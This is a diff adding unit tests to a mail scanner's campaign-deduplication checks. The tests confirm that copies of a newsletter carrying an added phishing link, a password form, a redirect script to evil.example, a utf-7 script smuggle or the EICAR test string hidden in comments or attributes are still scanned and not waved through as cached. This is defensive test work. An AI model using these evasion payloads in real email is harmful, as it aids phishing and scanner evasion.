@@ -1,5 +1,6 @@
 """Copies of one campaign: found and stopped by what they share, and nothing that differs in one of them is overlooked."""
 import base64
+import json
 import re
 import unittest
 import urllib.request
@@ -18,7 +19,7 @@ PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pa
        b"0000000054 00000 n \n0000000105 00000 n \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n168\n%%EOF\n")
 
 
-def copy(number, html_more="", text_more="", attachment=PDF, header_more=""):
+def copy(number, html_more="", text_more="", attachment=PDF, header_more="", page=""):
     """The same newsletter for another reader; the keywords are what an attacker changes in one copy."""
     to = f"reader{number}@example.net"
     encoded = base64.encodebytes(attachment).decode()
@@ -40,7 +41,7 @@ Dear reader {number}, {TEXT}{text_more}
 --=_a
 Content-Type: text/html; charset=utf-8
 
-<html><body><p>Dear reader {number}, {TEXT}</p><a href="https://garden.example.org/u?{number}">leave</a>{html_more}</body></html>
+<html><body><p>Dear reader {number}, {TEXT}</p>{page}<a href="https://garden.example.org/u?{number}">leave</a>{html_more}</body></html>
 --=_a--
 --=_m
 Content-Type: application/pdf; name="prices.pdf"
@@ -53,6 +54,8 @@ Content-Transfer-Encoding: base64
 
 
 class Campaign(unittest.TestCase):
+    page = ""
+
     def setUp(self):
         self.sink = SmtpSink()
         self.addCleanup(self.sink.stop)
@@ -61,7 +64,7 @@ class Campaign(unittest.TestCase):
         self.addCleanup(lambda: self.daemon.__exit__(None, None, None))
 
     def send(self, number, **changed):
-        to, content = copy(number, **changed)
+        to, content = copy(number, page=self.page, **changed)
         return self.daemon.send("outbound", "news@garden.example.org", [to], content)
 
     def warm_up(self):
@@ -94,6 +97,41 @@ class Campaign(unittest.TestCase):
         self.assertEqual(self.daemon.command("journal", "list", "--json")["records"][0]["verdict"], "suspicious")
         code, text = self.send(99)
         self.assertEqual((code, "held" in text), (250, False), "the campaign itself still goes out")
+
+    def test_a_long_campaign_is_compared_and_nothing_is_smuggled_in_a_copy(self):
+        """A page of 8 kB, so that copies are compared to one that was scanned whole (docs/design/campaigns.md)."""
+        self.page = "".join(f"<p>{TEXT}</p><p>Number {number}</p>\r\n" for number in range(20))
+        self.warm_up()
+        seen = self.explained(COPIES)
+        self.assertTrue([part for part in seen["parts"] if part["media_type"] == "text/html" and part.get("remembered")], seen["parts"])
+        eicar = demo_mail.EICAR.decode()
+        # The name of the first copies completes nothing; in these it does, or brings what a name never has.
+        attacks = {
+            "a link": '<a href="https://evil.example/">x</a>', "a form": '<form action="https://evil.example/"><input type=password></form>',
+            "a script": "<script>document.location='https://evil.example/'</script>", "the test string": eicar,
+            "behind a comment": "<!--> -->" + eicar, "in an attribute": f'<p title="{eicar}">x</p>',
+            "a charset": '<meta charset="utf-7">+ADw-script+AD4-'}
+        for number, (name, html) in enumerate(attacks.items(), COPIES + 1):
+            with self.subTest(attack=name):
+                seen = self.explained(number, html_more=html)
+                self.assertFalse([part for part in seen["parts"] if part["media_type"] == "text/html" and part.get("remembered")], name)
+                self.assertEqual(seen["verdict"] == "malware", eicar in html, seen)
+        self.assertEqual(self.send(99)[0], 250)
+
+    def test_a_name_that_completes_a_signature_is_found(self):
+        before, behind = demo_mail.EICAR.decode().split("ANTIVIRUS")
+        self.page = "".join(f"<p>{TEXT}</p><p>Number {number}</p>\r\n" for number in range(20))
+        for number in range(COPIES):
+            self.assertEqual(self.send(number, html_more=f"<p>{before}SOMETHING{behind}</p>")[0], 250)
+        code, text = self.send(50, html_more=f"<p>{before}ANTIVIRUS{behind}</p>")
+        self.assertTrue(code >= 500 or "held" in text, (code, text))
+
+    def explained(self, number, **changed):
+        """The whole verdict about one copy."""
+        _, content = copy(number, page=self.page, **changed)
+        request = urllib.request.Request(f"http://127.0.0.1:{self.daemon.ports['check']}/v1/scan", data=content, method="POST")
+        with urllib.request.urlopen(request, timeout=60) as answer:
+            return json.load(answer)
 
     def test_orders_see_a_link_that_differs(self):
         self.warm_up()
